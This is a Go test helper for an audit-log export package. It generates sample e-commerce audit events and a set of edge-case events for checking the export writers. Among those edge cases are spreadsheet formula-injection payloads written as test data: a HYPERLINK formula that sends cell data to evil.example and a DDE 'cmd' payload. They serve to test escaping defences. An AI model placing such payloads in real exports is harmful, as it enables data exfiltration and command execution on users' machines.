package export

import (
	"crypto/sha256"
	"encoding/binary"
	"flag"
	"fmt"
	"time"

	"github.com/auditlog/auditlog/internal/audit"
)

var update = flag.Bool("update", false, "update golden files (and docs/sample-report.*) instead of checking against them")

// sampleBase is the time of the first sample event.
var sampleBase = time.Date(2026, 11, 2, 8, 15, 0, 0, time.UTC)

type sampleActor struct{ typ, id, email, name string }

var sampleActors = []sampleActor{
	{audit.ActorUser, "", "maria.gonzalez@northwind-goods.com", "María González"},
	{audit.ActorUser, "", "kenji.tanaka@northwind-goods.com", "田中 健二"},
	{audit.ActorUser, "", "olga.ivanova@northwind-goods.com", "Ольга Иванова"},
	{audit.ActorUser, "", "noa.cohen@northwind-goods.com", "נועה כהן"},
	{audit.ActorAPIKey, "alk_checkout", "", ""},
	{"customer", "cus_48213", "sam.okafor@example.net", "Sam Okafor"},
	{audit.ActorSystem, "", "", ""},
}

// sampleEvent returns the i-th event (from 0) of a realistic ecommerce log:
// refunds, price changes, payout and role changes, sign-ins and failed
// sign-ins, with personal data in several scripts.
func sampleEvent(i int) *audit.Event {
	ai := i % len(sampleActors)
	if i%9 == 2 || i%9 == 3 { // sign-ins are by users
		ai = i % 4
	}
	a := sampleActors[ai]
	e := &audit.Event{
		ID: int64(70000 + i), AccountID: 42, Seq: int64(i + 1),
		CreatedAt: sampleBase.Add(time.Duration(i)*8111*time.Second + time.Duration(i%1000)*time.Microsecond),
		ActorType: a.typ, ActorID: a.id, ActorEmail: a.email, ActorName: a.name,
		IPAddress: fmt.Sprintf("203.0.113.%d", 10+i%40),
		UserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		Outcome:   audit.OutcomeSuccess,
	}
	if a.typ == audit.ActorUser {
		e.UserID = int64(1 + ai)
	}
	if a.typ == audit.ActorAPIKey {
		e.APIKeyID = 3
		e.UserAgent = "checkout-service/4.2 (+https://northwind-goods.com)"
	}
	switch i % 9 {
	case 0:
		e.Action, e.ResourceType, e.ResourceID = "order.refunded", "order", fmt.Sprintf("#%d", 100200+i)
		e.Details = fmt.Sprintf("Refunded €%d.%02d to the original card (reason: damaged in transit)", 20+i%180, i%100)
		e.Metadata = fmt.Appendf(nil, `{"amount":"%d.%02d","currency":"EUR","order":"#%d"}`, 20+i%180, i%100, 100200+i)
		e.EventID = fmt.Sprintf("rf_%08d", i)
	case 1:
		e.Action, e.ResourceType, e.ResourceID = "product.price_changed", "product", fmt.Sprintf("SKU-%05d", 300+i)
		e.Details = "Price of “Organic cotton tee — Größe M” changed"
		e.Changes = fmt.Appendf(nil, `[{"field":"price","old":"%d.00","new":"%d.50"}]`, 25+i%10, 22+i%10)
	case 2:
		e.Action, e.ResourceType, e.ResourceID = audit.ActionUserLogin, audit.ResourceUser, fmt.Sprint(e.UserID)
		e.Details = "User logged in successfully with MFA (authenticator code)"
	case 3:
		e.Action, e.ResourceType, e.ResourceID = audit.ActionLoginFailed, audit.ResourceUser, fmt.Sprint(e.UserID)
		e.Details, e.Outcome = "Failed login attempt: wrong password", audit.OutcomeFailure
	case 4:
		e.Action, e.ResourceType, e.ResourceID = "payout.destination_changed", "payout_account", "ba_1QX7"
		e.Details = "Payout destination changed from IBAN DE89 •••• 3000 to IBAN FR76 •••• 0189; confirmation e-mail sent to the owner, who has 24 hours to reverse the change before the next scheduled payout on Friday"
		e.Changes = []byte(`[{"field":"iban","old":"DE89…3000","new":"FR76…0189"}]`)
	case 5:
		e.Action, e.ResourceType, e.ResourceID = "staff.role_changed", "staff", "usr_1187"
		e.Details = `Changed role of "Priya Natarajan" <priya@northwind-goods.com>: analyst → admin`
		e.Changes = []byte(`[{"field":"role","old":"analyst","new":"admin"}]`)
	case 6:
		e.Action, e.ResourceType, e.ResourceID = "order.note_added", "order", fmt.Sprintf("#%d", 100100+i)
		e.Details = "Customer note: 配達は午後にお願いします 🙏 — שלום, please leave at the door"
	case 7:
		e.Action, e.ResourceType, e.ResourceID = "checkout.payment_failed", "order", fmt.Sprintf("#%d", 100300+i)
		e.Details, e.Outcome = "Card declined: insufficient funds (3-D Secure passed)", audit.OutcomeFailure
	case 8:
		e.Action, e.ResourceType, e.ResourceID = "discount.created", "discount", "BLACKFRIDAY26"
		e.Details = "Created discount BLACKFRIDAY26: 25% off collection “Winter”, 2026-11-27 → 2026-11-30"
		e.Metadata = []byte(`{"percent":25,"collection":"winter"}`)
	}
	if i%13 == 12 {
		e.OccurredAt = e.CreatedAt.Add(-1500 * time.Millisecond)
	}
	h := sha256.Sum256(binary.BigEndian.AppendUint64(nil, uint64(i)))
	e.LeafHash = h
	return e
}

// sampleEvents returns the first n sample events.
func sampleEvents(n int) []*audit.Event {
	out := make([]*audit.Event, n)
	for i := range out {
		out[i] = sampleEvent(i)
	}
	return out
}

// trickyEvents are events whose text tests the writers' edges: formula
// triggers, quotes, separators and line breaks, scripts and emoji,
// combining marks, invalid UTF-8, empty fields.
func trickyEvents() []*audit.Event {
	base := time.Date(2026, 1, 2, 3, 4, 5, 123456000, time.UTC)
	ev := func(seq int64, action, details string) *audit.Event {
		return &audit.Event{ID: 500 + seq, AccountID: 7, Seq: seq, CreatedAt: base.Add(time.Duration(seq) * time.Second),
			Action: action, Details: details, LeafHash: sha256.Sum256([]byte(details))}
	}
	es := []*audit.Event{
		ev(1, "order.refunded", `=HYPERLINK("http://evil.example/?x="&A1,"Click")`),
		ev(2, "order.refunded", "+cmd|' /C calc'!A0"),
		ev(3, "order.refunded", "-2+3"),
		ev(4, "order.refunded", "@SUM(1+1)"),
		ev(5, "order.refunded", "\t=1+1"),
		ev(6, "order.refunded", "\r=1+1"),
		ev(7, "order.refunded", "＝1+1"),
		ev(8, "order.refunded", "-1"),
		ev(9, "order.refunded", `He said "refund it", then left; twice, maybe`),
		ev(10, "order.refunded", "line one\nline two\r\nline three\rline four"),
		ev(11, "order.note_added", "emoji 🎉👩‍💻, RTL שלום עולם / مرحبا بالعالم, CJK 注文を返金しました 退款 환불"),
		ev(12, "order.note_added", "combining: e\u0301 a\u0308 Z\u0335\u0330"),
		ev(13, "order.note_added", "bad \xff\xfe utf-8 \xc3"),
		ev(14, "", ""),
	}
	es[0].ResourceID = "@admin"
	es[0].ActorEmail = "=evil@example.com"
	es[1].EventID = "-evt-1"
	es[1].ActorName = "'=already quoted"
	es[2].Metadata = []byte(`{"note":"=1+1","emoji":"🎉"}`)
	es[2].Changes = []byte(`[{"field":"price","old":"-1","new":"+2"}]`)
	es[3].IPAddress = "2001:db8::1"
	es[4].OccurredAt = base.Add(-time.Hour)
	es[5].UserID, es[5].APIKeyID = 9, 4
	es[6].ActorType, es[6].ActorID = "customer", "+49 30 1234567"
	es[7].ResourceID = "-1"
	es[8].UserAgent = "curl/8.5.0"
	es[12].ActorName = "Bad \xff name"
	return es
}
